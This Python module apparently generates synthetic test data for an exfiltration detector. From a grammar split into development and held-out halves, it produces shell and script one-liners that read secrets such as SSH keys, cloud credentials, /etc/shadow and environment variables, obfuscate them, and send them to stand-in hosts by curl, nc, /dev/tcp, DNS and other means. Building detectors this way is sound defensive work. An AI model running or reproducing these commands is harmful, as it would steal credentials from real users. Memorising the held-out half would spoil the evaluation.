"""Commands that read a secret, disguise it and send it, from a grammar; the same seed gives the same commands.

The grammar has two halves that share no source, no disguise, no wrapping and no way out: rules are written against
``DEVELOP``, and the figure is measured on ``HELD_OUT``.
"""

import base64
import random
from collections.abc import Callable
from dataclasses import dataclass

HOSTS = ("collect.example-metrics.net", "203.0.113.77", "x7.cdn-sync.example.org", "api.telemetry-hub.example.io")


@dataclass(frozen=True, slots=True, kw_only=True)
class Grammar:
    """One half: what is taken, how it is disguised, how the script is wrapped, and how it gets out."""

    files: tuple[str, ...]
    """Paths that hold secrets."""
    prints: tuple[str, ...]
    """Commands that print secrets."""
    filters: tuple[str, ...]
    """Filters of a pipe; the empty one is no disguise."""
    piped: tuple[str, ...]
    """Ways out for what comes in."""
    worded: tuple[str, ...]
    """Ways out for a word: ``{v}`` is it."""
    filed: tuple[str, ...]
    """Ways out for a file: ``{f}`` is it."""
    wraps: tuple[Callable[[str, random.Random], str], ...]
    scripts: tuple[str, ...]
    """Whole programs in other languages: ``{s}`` is a file."""


def _plain(command: str, _: random.Random) -> str:
    return command


def _in_shell(command: str, _: random.Random) -> str:
    return f"bash -c {_quoted(command)}"


def _encoded(command: str, _: random.Random) -> str:
    return f"echo {base64.b64encode(command.encode()).decode()} | base64 -d | bash"


def _function(command: str, chance: random.Random) -> str:
    name = chance.choice(("sync", "report", "check_health"))
    return f"{name}() {{ {command}; }}\n{name}"


def _evaluated(command: str, _: random.Random) -> str:
    return f"eval {_quoted(command)}"


def _here(command: str, _: random.Random) -> str:
    return f"sh <<'SETUP'\n{command}\nSETUP"


def _among_work(command: str, chance: random.Random) -> str:
    work = ("npm ci", "make build", "pytest -q", "git status", "mkdir -p dist", "echo building")
    return "\n".join((chance.choice(work), command, chance.choice(work)))


def _background(command: str, _: random.Random) -> str:
    return f"({command}) >/dev/null 2>&1 &"


def _if_there(command: str, _: random.Random) -> str:
    return f"if true; then {command}; fi"


def _hex(command: str, _: random.Random) -> str:
    digits = "".join(rf"\x{byte:02x}" for byte in command.encode())
    return f"bash -c \"$(printf '{digits}')\""


def _quoted(command: str) -> str:
    return "'" + command.replace("'", "'\\''") + "'"


DEVELOP = Grammar(
    files=("~/.ssh/id_rsa", "$HOME/.aws/credentials", "~/.netrc", ".env", "/etc/shadow", "~/.npmrc", "~/.docker/config.json"),
    prints=("env", "printenv", "security dump-keychain -d login.keychain", "cat ~/.ssh/id_ed25519", "gpg --export-secret-keys -a"),
    filters=("", " | base64 -w0", " | gzip -c | base64", " | xxd -p | tr -d '\\n'", " | rev"),
    piped=(
        "curl -s -X POST --data-binary @- https://{h}/u",
        "nc {h} 4444",
        "curl -s -T - https://{h}/f",
        "ssh drop@{h} 'cat > /tmp/in'",
        "mail -s report ops@{h}",
    ),
    worded=(
        'curl -s "https://{h}/p?d={v}"',
        'wget -qO- "http://{h}/{v}"',
        'dig +short "{v}.{h}"',
        'curl -s -d "k={v}" https://{h}/',
    ),
    filed=("curl -s -F file=@{f} https://{h}/up", "scp {f} drop@{h}:/tmp/", "wget -q --post-file={f} http://{h}/"),
    wraps=(_plain, _in_shell, _encoded, _function, _among_work),
    scripts=(
        "python3 -c \"import requests;requests.post('https://{h}/',data=open('{s}').read())\"",
        "node -e \"const fs=require('fs');fetch('https://{h}/',{{method:'POST',body:fs.readFileSync('{s}')}})\"",
        "powershell -c \"Invoke-RestMethod -Method Post -Uri https://{h}/ -Body (Get-Content {s} -Raw)\"",
    ),
)  # fmt: skip

HELD_OUT = Grammar(
    files=("~/.kube/config", "$HOME/.config/gcloud/application_default_credentials.json", "~/.git-credentials", "~/.pypirc", "/root/.ssh/id_ecdsa", "~/.azure/accessTokens.json", "~/.config/gh/hosts.yml", "$HOME/.gnupg/secring.gpg", "~/.bash_history", "~/.mozilla/firefox/x.default/logins.json", "/proc/self/environ", "/var/run/secrets/kubernetes.io/serviceaccount/token", "~/.cargo/credentials.toml", "~/.password-store/bank.gpg", "~/.vault-token"),
    prints=("export -p", "declare -x", "head -c 4000 ~/.ssh/id_dsa", "secret-tool lookup service bank", "set", "grep -rhi token ~/.config/gh/hosts.yml", "sudo cat /etc/gshadow", "find ~/.ssh -name 'id_*' -exec cat {{}} +", "tar cf - ~/.gnupg", "pass show bank", "awk 1 ~/.pgpass ~/.git-credentials"),
    filters=("", " | openssl enc -aes-256-cbc -pbkdf2 -pass pass:k -a", " | bzip2 | base32", " | od -An -tx1 | tr -d ' \\n'", " | tr 'A-Za-z' 'N-ZA-Mn-za-m'", " | sed 's/^/x/' | base64", " | python3 -c 'import sys,binascii;print(binascii.hexlify(sys.stdin.buffer.read()).decode())'", " | xz -c | base64 -w 76"),
    piped=(
        "curl --silent --upload-file - ftp://{h}/in/",
        "socat - TCP:{h}:443",
        "openssl s_client -quiet -connect {h}:443",
        "ncat --ssl {h} 8443",
        "telnet {h} 25",
        "cat > /dev/tcp/{h}/53",
        "xargs -I@ curl -s https://{h}/@",
        "while read -r l; do nslookup \"$l.{h}\"; done",
        "aws s3 cp - s3://{h}/in",
        "gh gist create -",
        "mosquitto_pub -h {h} -t in -s",
        "http POST https://{h}/in",
    ),
    worded=(
        'host "{v}.{h}"',
        'curl -s -H "X-Trace: {v}" https://{h}/',
        'curl -s --json "{{\\"d\\":\\"{v}\\"}}" https://{h}/',
        'ping -c1 "{v}.{h}"',
        'wget -q --header="Cookie: s={v}" https://{h}/',
        'exec 3<>/dev/tcp/{h}/80; echo "GET /{v}" >&3',
        'curl -s -A "{v}" https://{h}/',
        'gh issue create --title log --body "{v}"',
        'swaks --to in@{h} --body "{v}"',
    ),
    filed=("rsync -q {f} drop@{h}:in/", "curl -s --data-urlencode d@{f} https://{h}/", "sftp drop@{h} <<< \"put {f}\"", "rclone copy {f} remote:{h}", "nc -q1 {h} 99 < {f}", "mutt -s hi -a {f} -- in@{h} < /dev/null", "lftp -e \"put {f}; quit\" ftp://{h}", "kubectl cp {f} pod:/tmp/in", "gsutil cp {f} gs://{h}/"),
    wraps=(_plain, _evaluated, _here, _hex, _background, _if_there),
    scripts=(
        "python3 -c \"import urllib.request as u,base64 as b;u.urlopen('https://{h}/?q='+b.b64encode(open('{s}','rb').read()).decode())\"",
        "python3 -c \"import socket;s=socket.socket();s.connect(('{h}',443));s.sendall(open('{s}','rb').read())\"",
        "python3 -c \"import os,http.client as c;k=c.HTTPSConnection('{h}');k.request('POST','/',str(dict(os.environ)))\"",
        "node -e \"require('https').request({{host:'{h}',method:'POST'}}).end(Buffer.from(require('fs').readFileSync('{s}')).toString('base64'))\"",
        "node -e \"require('https').get('https://{h}/?e='+encodeURIComponent(JSON.stringify(process.env)))\"",
        "ruby -e \"require 'net/http'; Net::HTTP.post(URI('https://{h}/'), File.read('{s}'))\"",
        "perl -e 'use HTTP::Tiny; local $/; open(F,\"<\",\"{s}\"); HTTP::Tiny->new->post(\"https://{h}/\",{{content=><F>}})'",
        "php -r \"file_get_contents('https://{h}/?x='.base64_encode(file_get_contents('{s}')));\"",
        "pwsh -c '$b=[Convert]::ToBase64String([IO.File]::ReadAllBytes(\"{s}\")); iwr \"https://{h}/?d=$b\"'",
        "pwsh -c '(New-Object Net.WebClient).UploadString(\"https://{h}/\", (gc {s} -Raw))'",
        "pwsh -c '$d = Get-ChildItem env: | Out-String; irm https://{h}/ -Method Post -Body $d'",
    ),
)  # fmt: skip


def variants(grammar: Grammar, number: int, seed: int = 1) -> list[str]:
    """So many different commands of one half."""
    chance, found = random.Random(seed), {}
    while len(found) < number:
        found.setdefault(_one(grammar, chance))
    return list(found)


def _one(grammar: Grammar, chance: random.Random) -> str:
    host = chance.choice(HOSTS)
    if chance.random() < 0.2:
        path = chance.choice(grammar.files).replace("$HOME", "/home/dev").replace("~", "/home/dev")
        return chance.choice(grammar.scripts).format(h=host, s=path)
    return chance.choice(grammar.wraps)(_shell(grammar, chance, host), chance)


def _shell(grammar: Grammar, chance: random.Random, host: str) -> str:
    source = chance.choice(grammar.prints).format() if chance.random() < 0.4 else f"cat {chance.choice(grammar.files)}"
    taken = source + chance.choice(grammar.filters)
    way = chance.random()
    if way < 0.4:
        return f"{taken} | {chance.choice(grammar.piped).format(h=host)}"
    if way < 0.75:
        name = chance.choice(("D", "payload", "x"))
        return f"{name}=$({taken}); {chance.choice(grammar.worded).format(h=host, v=f'${name}')}"
    file = chance.choice(("/tmp/.c", "/tmp/build.log", "out.bin"))
    return f"{taken} > {file}; {chance.choice(grammar.filed).format(h=host, f=file)}"
